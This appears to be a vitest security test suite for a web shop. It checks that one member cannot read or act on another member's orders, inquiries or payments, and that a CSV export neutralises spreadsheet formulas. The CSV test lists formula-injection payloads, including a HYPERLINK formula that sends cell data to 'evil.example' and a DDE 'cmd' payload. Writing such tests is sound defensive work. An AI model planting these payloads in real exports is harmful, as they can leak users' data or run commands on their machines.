/** Other members' data, and formulas in the CSV. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SIGNATURE_FIELD } from "../../kit/visitors/form-signatures";
import type { Client } from "./client";
import { Target } from "./site";

let target: Target;
beforeAll(() => {
  target = Target.shared();
});
afterAll(() => target.stop());

describe("what belongs to another member", () => {
  it("is answered 404: orders, inquiries, replies, attachments, payments", async () => {
    const balances = { soria: 1000 };
    const owner = await target.member({ orders: 2, balances, inquiries: [{ subject: "only-mine-7f3" }] });
    const other = await target.member({ orders: 1, inquiries: [{}] });
    const [publicId = ""] = owner.member.inquiries;
    const list = await owner.client.get("/my-page/ecommerce-history");
    const [order = ""] = /ORDER-[\d-]+/.exec(list.text) ?? [];
    expect(order).not.toBe("");
    const attachment = await owner.client.attach();

    const addresses = [
      `/my-page/ecommerce-history/${order}`,
      `/support/inquiries/${publicId}`,
      `/support/requests/${publicId}`,
      `/support/inquiry/attachment?id=${attachment}`,
    ];
    const routes: Record<string, string> = {
      [`/my-page/ecommerce-history/${order}`]: "routes/my-page/order/route",
      [`/support/inquiries/${publicId}`]: "routes/support/conversation/route",
    };
    let tried = 0;
    for (const path of addresses) {
      expect((await owner.client.get(path)).status, `its owner: ${path}`).toBe(200);
      const asked = [path, ...(routes[path] ? [`${path}?_data=${encodeURIComponent(routes[path])}`] : [])];
      for (const address of asked) {
        const foreign = await other.client.get(address);
        tried += 1;
        expect([404, 303], address).toContain(foreign.status);
        expect(foreign.text).not.toContain("only-mine-7f3");
        const guest = await target.client().get(address);
        tried += 1;
        expect(guest.status, address).toBeLessThan(500);
        expect(guest.text).not.toContain("only-mine-7f3");
      }
    }
    // With the signature of the other member's own form.
    const signature =
      (await other.client.signatureFor(`/support/inquiries/${other.member.inquiries[0]}`)) ?? "";
    expect(signature).not.toBe("");
    const calls = await target.callsDuring(async () => {
      for (const path of [`/support/inquiries/${publicId}`, `/support/requests/${publicId}`]) {
        const fields = { confirmed: "yes", content: "I am not the owner.", [SIGNATURE_FIELD]: signature };
        const reply = await other.client.post(path, fields);
        tried += 1;
        expect([303, 400, 404]).toContain(reply.status);
      }
    });
    expect(Object.keys(calls)).not.toContain(`POST /api/support/inquiries/${owner.member.inquiries[0]}`);
    const thread = await owner.client.get(`/support/inquiries/${publicId}`);
    expect(thread.text).not.toContain("I am not the owner.");

    // Guessed transactions, and the owner's order number.
    for (const transaction of ["1", "0", "-1", "TX-1", order]) {
      for (const path of ["/store/products/complete", "/store/products/complete/begin"]) {
        const response = await other.client.post(path, { intent: "check", purchase: transaction });
        tried += 1;
        expect(response.status, path).toBeLessThan(500);
        expect(response.text).not.toContain("client_secret");
      }
      for (const name of ["purchase", "transaction"]) {
        const path = `/store/products/complete?${name}=${transaction}`;
        const { headers, status } = await other.client.get(path);
        tried += 1;
        expect([status, headers.location]).toEqual([404, undefined]);
      }
    }
    console.log(`other members' data: ${tried} requests, nothing found`);
  });

  it("a payment that is under way is not shown, begun, captured or given up by another", async () => {
    const owner = await target.member();
    const other = await target.member();
    const purchase = await paymentOf(owner.client);
    const path = `/store/products/complete?purchase=${purchase}`;
    expect((await owner.client.get(path)).status).toBe(200);
    expect((await other.client.get(path)).status).toBe(404);
    // With the signature of the other member's own form.
    const own = await paymentOf(other.client);
    const signature = (await other.client.signatureFor("/store/products/complete", "check", own)) ?? "";
    expect(signature).not.toBe("");
    const intents = ["check", "drop", "pay", "say-taken", "say-not-taken", "say-refunded", ""];
    const calls = await target.callsDuring(async () => {
      for (const intent of intents) {
        for (const at of ["/store/products/complete/begin", "/store/products/complete", path]) {
          const response = await other.client.post(at, {
            intent,
            purchase,
            script: "ready",
            [SIGNATURE_FIELD]: signature,
          });
          expect(response.status).toBeLessThan(500);
          expect(response.text).not.toMatch(/clientSecret|_secret_/);
        }
      }
    });
    expect(Object.keys(calls).filter((call) => /POST|DELETE|PATCH/.test(call))).toEqual([]);
    expect((await owner.client.get(path)).status).toBe(200);
  });
});

/**
 * Starts a card payment, as the item page's script does.
 * @returns the key of the purchase
 */
async function paymentOf(client: Client): Promise<string> {
  const data = `_data=${encodeURIComponent("routes/store/product/route")}`;
  for (let id = 1; id < 40; id += 1) {
    const { text } = await client.get(`/store/products/${id}`);
    const paymentType = /name="paymentType"[^>]*value="([^"]*)"/.exec(text)?.[1] ?? "STRIPE";
    const fields = { intent: "buy", quantity: "1", paymentType, confirm: "on", script: "ready" };
    const response = await client.post(`/store/products/${id}?${data}`, fields);
    const payment = /"payment":\{.*?"key":"([^"]+)"/.exec(response.text)?.[1];
    if (payment) return payment;
  }
  throw new Error("No item is paid by card");
}

it("the CSV holds no cell that a spreadsheet would work out", async () => {
  const { client, member } = await target.member({ history: 1 });
  const formulas = [
    "=1+1",
    "+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
  ];
  formulas.push(
    `=HYPERLINK("http://evil.example?"&A1)`,
    `=cmd|' /C calc'!A0`,
    `"=1"`,
    `a","=1`,
    `a\r\n=1,=2`,
    "\u200b=1",
    "\ufeff=1",
  );
  formulas.push("%0A=1", "=DDE(1)", ";=1", "|=1", "'=1", "\u00a0=1", "\v=1", "\u0000=1");
  const items = formulas.map((web_note, id) => ({
    ...{ id, created_at: "2026-11-20T15:00:00Z", currency_type: "soria", type: "REWARD" },
    ...{ change_amount: 1, net_amount: 1, web_note },
  }));
  const data = { page: 1, page_count: 1, stats: { total: items.length }, items };
  await target.sandbox.faults([
    { path: "/api/users/me/history", member: member.id, body: { result: 1, message: "", data } },
  ]);
  const { status, text, headers } = await client.get("/my-page/history.csv");
  await target.sandbox.faults([]);
  expect(status).toBe(200);
  expect(headers["content-disposition"]).toMatch(/^attachment/);
  expect(headers["content-type"]).toMatch(/^text\/csv/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const cells = cellsOf(text.replace(/^\ufeff/, ""));
  expect(cells).toHaveLength(items.length + 1);
  const notes = cells.slice(1).map((row) => row[5] ?? "");
  for (const row of cells) expect(row).toHaveLength(6);
  // Characters that spreadsheets skip before a formula.
  const active = notes.filter((note) => /^[\s\p{Cc}\p{Cf}]*[=+@＝＋＠－-]/u.test(note));
  console.log(`CSV: ${formulas.length} formulas, ${active.length} active`);
  expect(active).toEqual([]);
});

/** Parses CSV (RFC 4180). */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    row.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === ",") continue;
    if (row.length > 1) rows.push(row);
    row = [];
  }
  return rows;
}
